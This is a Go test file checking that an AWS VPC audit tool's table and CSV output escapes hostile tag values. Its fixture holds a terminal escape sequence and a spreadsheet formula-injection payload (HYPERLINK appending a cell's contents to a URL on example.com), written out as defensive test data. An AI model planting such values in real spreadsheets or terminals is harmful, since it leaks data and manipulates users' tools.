package main

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/privatelink-rules/ec2-vpc-endpoint-rule/rule"
)

// hostileReport has VPCs whose Name tags, set by anyone who may tag in an audited account, hold
// what EC2 accepts in a tag value: a newline and tab, a terminal escape, a spreadsheet formula.
func hostileReport() *auditReport {
	r := &auditReport{Targets: auditTargets{Total: 1}}
	for i, name := range []string{
		"line1\nline2\tcol",
		"\x1b]0;owned\x07red",
		`=HYPERLINK("http://example.com/?"&A1,"click, ""here""")`,
		"+1", "-2", "@SUM(A1)", "plain, \"quoted\"",
	} {
		r.Results = append(r.Results, auditResult{
			Account: "123456789012", Region: "us-east-1", VPCID: "vpc-0000000" + string(rune('0'+i)),
			Name: name, Compliance: rule.NonCompliant, Annotation: "No endpoint",
		})
		r.Summary.add(rule.NonCompliant)
	}
	return r
}

func TestAuditTableEscapesTagValues(t *testing.T) {
	var b bytes.Buffer
	require.NoError(t, writeAuditTable(&b, hostileReport()))
	out := b.String()
	assert.NotContains(t, out, "\x1b", "no terminal escape reaches the terminal")
	assert.NotContains(t, out, "\t")
	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	// A header, one line per VPC, a blank line and the summary.
	require.Len(t, lines, 1+7+2, out)
	assert.Contains(t, lines[1], `"line1\nline2\tcol"`)
	assert.Contains(t, lines[2], `"\x1b]0;owned\ared"`)
	for _, l := range lines[1:8] {
		assert.Contains(t, l, "NON_COMPLIANT  No endpoint", "columns aligned: %q", l)
	}
	assert.Contains(t, lines[7], `plain, "quoted"`, "printable text as it is")
}

func TestAuditCSVQuotesAndNeutralisesFormulas(t *testing.T) {
	var b bytes.Buffer
	require.NoError(t, writeAuditCSV(&b, hostileReport()))
	rows, err := csv.NewReader(&b).ReadAll()
	require.NoError(t, err, "RFC 4180: commas, quotes and newlines quoted")
	require.Len(t, rows, 8)
	var names []string
	for _, row := range rows[1:] {
		names = append(names, row[4])
	}
	assert.Equal(t, []string{
		"line1\nline2\tcol",
		"\x1b]0;owned\x07red",
		`'=HYPERLINK("http://example.com/?"&A1,"click, ""here""")`,
		"'+1", "'-2", "'@SUM(A1)", `plain, "quoted"`,
	}, names)
}
